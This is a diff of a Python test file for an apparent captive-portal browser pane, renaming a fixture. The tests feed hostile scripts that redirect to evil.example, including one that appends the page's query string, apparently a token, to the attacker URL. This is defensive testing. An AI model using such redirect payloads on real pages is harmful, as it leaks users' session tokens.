@@ -79,25 +79,25 @@ def test_the_page_does_not_replace_itself_by_content_of_its_own(hostile, make):
     assert hostile.is_still_the_portal()
 
 
-def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
+def test_leaving_asks_in_place_and_staying_stays(hostile, expect_question):
     leave = "location.href = 'https://evil.example/?t=1'"
     hostile.open(f"addEventListener('click', () => {{ {leave} }})")
     hostile.run(f"({leave}, 1)")
-    asks("wants to go to evil.example.")
+    expect_question("wants to go to evil.example.")
     press(hostile.pane, "Stay")
     hostile.run(f"({leave}, 1)")
     hostile.run("1")
     assert not says(hostile.pane, "wants to go to")
     hostile.click()
-    asks("wants to go to evil.example.")
+    expect_question("wants to go to evil.example.")
     press(hostile.pane, "Stay")
     assert hostile.is_still_the_portal()
 
 
-def test_the_page_can_not_replace_an_open_question(hostile, asks):
+def test_the_page_can_not_replace_an_open_question(hostile, expect_question):
     hostile.open("")
     hostile.run("(location.href = 'https://harmless.example/', 1)")
-    asks("harmless.example")
+    expect_question("harmless.example")
     hostile.run("(location.href = 'https://evil.example/', 1)")
     hostile.run("1")
     press(hostile.pane, "Open in system browser")
@@ -125,11 +125,11 @@ def test_the_page_can_not_replace_an_open_question(hostile, asks):
     ],
     ids=["form", "post", "link", "replace", "navigation", "frame"],
 )
-def test_every_way_to_another_host_asks(hostile, asks, script, body):
+def test_every_way_to_another_host_asks(hostile, expect_question, script, body):
     to = "https://evil.example/in"
     hostile.open(script.format(to=to), body.format(to=to, full_page=FULL_PAGE))
     hostile.click()
-    asks("wants to go to evil.example.")
+    expect_question("wants to go to evil.example.")
     assert hostile.is_still_the_portal()
 
 
@@ -162,17 +162,17 @@ def test_a_sandboxed_frame_does_not_make_the_preview_ask(hostile):
     ],
     ids=["mixed", "whole", "right to left", "long", "name before", "not encrypted"],
 )
-def test_the_question_names_the_real_host(hostile, asks, address, words):
+def test_the_question_names_the_real_host(hostile, expect_question, address, words):
     hostile.open("")
     hostile.run(f"(location.href = '{address}', 1)")
-    asks(words)
+    expect_question(words)
     assert hostile.is_still_the_portal()
 
 
-def test_the_system_browser_gets_the_address_of_the_question(hostile, asks):
+def test_the_system_browser_gets_the_address_of_the_question(hostile, expect_question):
     hostile.open("", f"<a {FULL_PAGE} href='{MIXED}'>Sign in</a>")
     hostile.click()
-    asks("Names that mix alphabets often imitate another.")
+    expect_question("Names that mix alphabets often imitate another.")
     press(hostile.pane, "Open in system browser")
     assert [link.reveal() for link in hostile.signals.external] == [MIXED]
 
@@ -235,10 +235,10 @@ def test_a_link_that_is_a_file_is_no_page(hostile):
     hostile.until(lambda: hostile.signals.failed == [("portal-1", "not_a_page")])
 
 
-def test_the_question_does_not_show_the_token(hostile, asks):
+def test_the_question_does_not_show_the_token(hostile, expect_question):
     hostile.open("")
     hostile.run("(location.href = 'https://evil.example/' + location.search, 1)")
-    asks("evil.example")
+    expect_question("evil.example")
     assert not any("token" in text for text in visible_texts(hostile.pane))
 
 
